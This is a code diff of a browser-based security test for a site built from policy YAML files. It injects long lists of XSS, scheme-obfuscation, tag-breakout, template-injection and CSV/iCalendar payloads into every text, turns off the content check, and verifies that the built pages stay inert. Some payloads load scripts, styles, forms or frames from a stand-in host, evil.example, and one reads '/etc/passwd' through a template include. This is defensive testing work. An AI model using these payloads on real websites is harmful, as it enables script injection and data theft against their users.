@@ -1,10 +1,14 @@
 """A policy with an attack in every text that takes one, built and looked at page by page.
 
-An attack is put behind each text; where the check says no, the text stays as it was.  What is left
-is what an author could publish.
+The check, which refuses most attacks at their line, is told to let texts pass: what is tried is the
+wall behind it.  An attack is put behind each text; where an id, an address or a number could not be
+read any more, it stays as it was.
 """
 
-from collections.abc import Iterator
+import os
+import subprocess
+import sys
+from collections.abc import Iterator, Sequence
 from itertools import cycle
 from pathlib import Path
 from tempfile import TemporaryDirectory
@@ -12,69 +16,162 @@ from tempfile import TemporaryDirectory
 import yaml
 from playwright.sync_api import Browser, Page, sync_playwright
 
+from calculator.authoring import check
 from calculator.authoring.examine import examined
 from calculator.authoring.problem import PolicyError
 from tests.browser.find import system_browser
 from tests.browser.watch import watch
-from tests.conftest import build
+from tests.conftest import ROOT
 from tests.policies import WHOLE
 from tests.site_pages import pages_of
 from tests.static_host import StaticHost
 
-ATTACKS = (
-    "<script>window.struck=1</script>", "<img src=x onerror=window.struck=1>", "\"><b>bold</b>",
-    "<svg/onload=window.struck=1>", "' onmouseover='window.struck=1", "{: onclick=x }",
-    "[x](javascript:window.struck=1)", "![x](https://evil.example/x.png)", "[x](//evil.example)",
-    "<https://evil.example>", "<iframe srcdoc='<script>parent.struck=1</script>'>", "{{ 7 * 7 }}",
-    "{% raw %}", "<!--", "]]>", "`", "&lt;script&gt;window.struck=1&lt;/script&gt;", "--8<-- 'x'",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "*[x]: <b>y</b>", "\\<b>",
-    "<form action=https://evil.example><input type=submit>", "<style>*{display:none}</style>",
-    "</script><script>window.struck=1</script>", "[x]: javascript:window.struck=1", "# <b>x</b>",
-    "\u202e", "\u2028", "|a|b|\n|-|-|\n|c|d|", "\n\n<div markdown onclick=x>", "=cmd()",
-)  # fmt: skip
+DO = "window.struck=1"
 
+ELEMENTS = (
+    "img src=x onerror", "svg onload", "body onload", "input autofocus onfocus",
+    "video src=x onerror", "details open ontoggle", "audio src=x onerror", "a href=# onclick",
+    "div onpointerenter", "object data=x onerror", "marquee onstart", "select autofocus onfocus",
+    "svg><animate onbegin", "math><mi onclick", "p style=animation-name:x onanimationstart",
+    "button onclick",
+)  # fmt: skip
+"""Elements with a handler."""
+
+SCHEMES = (
+    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:",
+    "\x01javascript:", "javascript&colon;", "&#106;avascript:", "&#x6A;avascript:",
+    "jav&#x09;ascript:", "javascript&#58;", "java%73cript:", "javascript://a.example/%0a",
+    "vbscript:", "data:text/html,<script>", "file:///", "data:text/html;base64,PHNjcmlwdD4=",
+    "blob:https://a.example/", "view-source:", "\u00a0javascript:",
+)  # fmt: skip
+"""Beginnings of addresses that must not be followed, also as people hide them."""
+
+LINKS = (
+    "[x]({}{})", "[x](<{}{}>)", "![x]({}{})", "<{}{}>", "[x]: {}{}", "[x]({}{} 'y')",
+    "<a href={}{}>x</a>",
+)  # fmt: skip
+"""How an address gets into a text."""
+
+BREAKS = (
+    "\"><b>bold</b>", "' onmouseover='window.struck=1",
+    "\" onfocus=\"window.struck=1\" autofocus=\"", "</title><script>window.struck=1</script>",
+    "</script><script>window.struck=1</script>", "</style><script>window.struck=1</script>",
+    "</textarea><script>window.struck=1</script>",
+    "</template><img src=x onerror=window.struck=1>", "<!--", "-->", "<![CDATA[", "]]>",
+    "<?php ?>", "<script>window.struck=1</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>", "<script\n>window.struck=1</script\n>",
+    "&lt;script&gt;window.struck=1&lt;/script&gt;", "\\<b>",
+    "%3Cscript%3Ewindow.struck=1%3C/script%3E", "\uff1cscript\uff1ewindow.struck=1",
+    "<iframe srcdoc='<script>parent.struck=1</script>'>", "<iframe src=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=https://evil.example>", "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>*{display:none}</style>", "<style>@import 'https://evil.example/x.css'</style>",
+    "<form action=https://evil.example><input>",
+    "<form action=https://evil.example><button>x</button></form>",
+    "<object data=//evil.example></object>", "<embed src=//evil.example>",
+    "<img src=//evil.example/x.png>", "![x](https://evil.example/x.png)",
+    "![x][y]\n\n[y]: https://evil.example/x.png", "![x](//evil.example/x.png)",
+    "[x](//evil.example)", "[x](\\\\evil.example)", "[x](/\\evil.example)",
+    "<https://evil.example>", "<x@evil.example>",
+)  # fmt: skip
+"""What ends the element or the attribute that a text stands in, and begins another."""
+
+MARKDOWN = (
+    "{: onclick=x }", "{ onmouseover=window.struck=1 }", "{: #sc-text .sc-root }", "{:onclick=x}",
+    "# <b>x</b>", "## x {: onclick=x }", "*[x]: <b>y</b>",
+    "*[a]: <img src=x onerror=window.struck=1>", "|a|b|\n|-|-|\n|c|d|",
+    "\n\n<div markdown onclick=x>", "<div markdown=1>\n\n# x\n\n</div>", "!!! note\n    x",
+    "??? note\n    x", "=== \"x\"\n    y", "```\n</code><b>", "~~~ {.js onclick=x}\n~~~",
+    "    <b>x</b>", "> <b>x</b>", "- [ ] <b>x</b>", "1. x\n1. y", "x\n:   <b>y</b>",
+    "[^1]\n\n[^1]: <b>x</b>", "++ctrl+x++", "{++x++}", "{>>x<<}", "[[x]]", ":smile:",
+    ":material-x:", "--8<-- 'x'", "-8<-\nx\n-8<-", "{{ 7 * 7 }}", "{{ config }}", "{% raw %}",
+    "{% include '/etc/passwd' %}", "{# x", "`", "``", "\\`", "***", "___", "---", "===", "<br>",
+    "&nbsp;", "&#0;", "&#x202e;", "\u202e", "\u2028", "\u2066", "\ufeff", "=cmd()", "+1",
+    "@everyone", "-- ", "BEGIN:VCARD", "\r\nATTACH:https://evil.example", "\nEND:VEVENT",
+)  # fmt: skip
+"""What Markdown, templates, tables and other files would take for theirs."""
+
+ATTACKS = (
+    *(f"<{element}={DO}>" for element in ELEMENTS),
+    *(f"<{element.replace(' ', '/')}={DO}//" for element in ELEMENTS),
+    *(link.format(scheme, DO) for scheme in SCHEMES for link in LINKS),
+    *BREAKS,
+    *MARKDOWN,
+)
 
 STRUCK = (
-    "iframe[srcdoc]", "form[action*=evil]",
-    "img[src*=evil]", "[onclick]", "[onerror]", "svg[onload]",
-    "a[href^=javascript]", "a[href^='//']",
+    "iframe", "object", "embed", "base", "form[action*=evil]", "img[src*=evil]",
+    "link[href*=evil]", "[onclick]", "[onerror]", "[onload]", "[onfocus]", "[onmouseover]",
+    "[ontoggle]", "[autofocus]", "a[href^='javascript' i]", "a[href^='vbscript' i]",
+    "a[href^='data' i]", "a[href^='//']", "b", "marquee", "math", "[http-equiv=refresh]",
 )  # fmt: skip
 """What the attacks would make, and the site never does."""
 
+ENOUGH = 400
+"""Texts with an attack in them that have to stand in built pages."""
+
+MOST_ROUNDS = 8
+
+UNGUARDED = """
+import calculator.authoring.check as check
+check.RULES = tuple(rule for rule in check.RULES if rule.__name__ != "texts")
+from mkdocs.__main__ import cli
+cli()
+"""
+"""Builds a site whose texts nobody has checked."""
 
 PHRASES = ("phrases", "hints")
 TEXT = "tag:yaml.org,2002:str"
 
 
 def found() -> list[str]:
-    """What has struck, and where."""
-    with TemporaryDirectory() as place:
-        policy, site = Path(place) / "policy", Path(place) / "site"
-        policy.mkdir()
-        count = attacked(policy)
-        build(site, POLICY=str(policy))
-        with StaticHost(site) as host, sync_playwright() as playwright:
-            browser = playwright.chromium.launch(
-                executable_path=system_browser(), args=["--no-sandbox", "--disable-dev-shm-usage"]
-            )
-            told = list(_looked_at(browser, host, sorted(pages_of(site))))
-            browser.close()
-    return told if count > 50 else [f"only {count} texts take an attack", *told]
+    """What has struck, and where, once enough texts with attacks were built into a site."""
+    told: list[str] = []
+    let_in: list[str] = []
+    for number in range(MOST_ROUNDS):
+        turn = number * len(ATTACKS) // 4 % len(ATTACKS)
+        with TemporaryDirectory() as place:
+            policy, site = Path(place) / "policy", Path(place) / "site"
+            policy.mkdir()
+            let_in += attacked(policy, (*ATTACKS[turn:], *ATTACKS[:turn]))
+            _build(policy, site)
+            with StaticHost(site) as host, sync_playwright() as playwright:
+                browser = playwright.chromium.launch(
+                    executable_path=system_browser(),
+                    args=["--no-sandbox", "--disable-dev-shm-usage"],
+                )
+                told += _looked_at(browser, host, sorted(pages_of(site)))
+                browser.close()
+        distinct = len(set(let_in))
+        print(f"payloads: {len(let_in)} texts with {distinct} attacks", file=sys.stderr, flush=True)
+        if len(let_in) >= ENOUGH and distinct == len(ATTACKS):
+            break
+    return told if len(let_in) >= ENOUGH else [f"only {len(let_in)} texts", *told]
 
 
-def attacked(directory: Path) -> int:
-    """Writes the policy with its attacks; how many there are."""
+def _build(policy: Path, site: Path) -> None:
+    command = [sys.executable, "-c", UNGUARDED, "build", "--quiet", "--site-dir", str(site)]
+    environment = os.environ | {"POLICY": str(policy)}
+    done = subprocess.run(
+        command, cwd=ROOT, env=environment, capture_output=True, text=True, check=False
+    )
+    assert done.returncode == 0, done.stdout + done.stderr
+
+
+def attacked(directory: Path, some: Sequence[str]) -> list[str]:
+    """Writes the policy with attacks in its texts; the attack of each text that takes one."""
     paths = [path for path in sorted(WHOLE.rglob("*")) if path.suffix in (".yml", ".yaml")]
     files = {f"{number}.yml": path.read_text("utf-8") for number, path in enumerate(paths)}
     trees = {name: yaml.compose(text, Loader=yaml.CSafeLoader) for name, text in files.items()}
-    attacks = cycle(ATTACKS)
+    attacks = cycle(some)
     for tree in trees.values():
         _add_phrases(tree, attacks)
     # As the lines will be: one value each, so that a message's line names its text.
     texts = [n for tree in trees.values() for n in _texts(tree) if n.tag == TEXT]
     plain = {id(node): node.value for node in texts}
+    by = {id(node): next(attacks) for node in texts}
     for node in texts:
-        node.value, node.style = f"{node.value} {next(attacks)}", '"'
+        node.value, node.style = f"{node.value} {by[id(node)]}", '"'
     for _ in range(40):
         for name, tree in trees.items():
             text = yaml.serialize(tree, allow_unicode=True, width=100_000)
@@ -88,7 +185,7 @@ def attacked(directory: Path) -> int:
                 lines = range(shown.start_mark.line, shown.end_mark.line + 1)
                 if any((name, line) in refused for line in lines):
                     node.value = plain.get(id(node), node.value)
-    return sum(node.value != plain[id(node)] for node in texts)
+    return [by[id(node)] for node in texts if node.value != plain[id(node)]]
 
 
 def _add_phrases(node: yaml.Node, attacks: Iterator[str]) -> None:
@@ -99,6 +196,7 @@ def _add_phrases(node: yaml.Node, attacks: Iterator[str]) -> None:
                 yaml.ScalarNode(
                     TEXT,
                     f"phrase {len(pair[1].value)} of {pair[0].start_mark.line} {next(attacks)}",
+                    style='"',
                 )
             )
         else:
@@ -108,11 +206,15 @@ def _add_phrases(node: yaml.Node, attacks: Iterator[str]) -> None:
 
 
 def _refused(directory: Path) -> set[tuple[str, int]]:
-    """Files and lines (from 0) of what the check will not have."""
+    """Files and lines (from 0) of what the check will not have, whatever texts say."""
+    rules = check.RULES
+    check.RULES = tuple(rule for rule in rules if rule.__name__ != "texts")
     try:
         wrong = examined(directory).wrong_examples
     except PolicyError as error:
         wrong = tuple(error.problems)
+    finally:
+        check.RULES = rules
     return {(Path(p.place.path).name, p.place.line - 1) for p in wrong}
 
 
@@ -156,14 +258,7 @@ def _looked_at(browser: Browser, host: StaticHost, urls: list[str]) -> Iterator[
 def _struck(page: Page) -> Iterator[str]:
     if page.evaluate("window.struck"):
         yield "a script of the policy has run"
-    for tag in (
-        "iframe",
-        "form[action*=evil]",
-        "img[src*=evil]",
-        "[onclick]",
-        "[onerror]",
-        "svg[onload]",
-    ):
+    for tag in STRUCK:
         if page.locator(tag).count():
             yield f"there is {tag}"
     if page.evaluate("document.documentElement.scrollWidth - innerWidth") > 1:
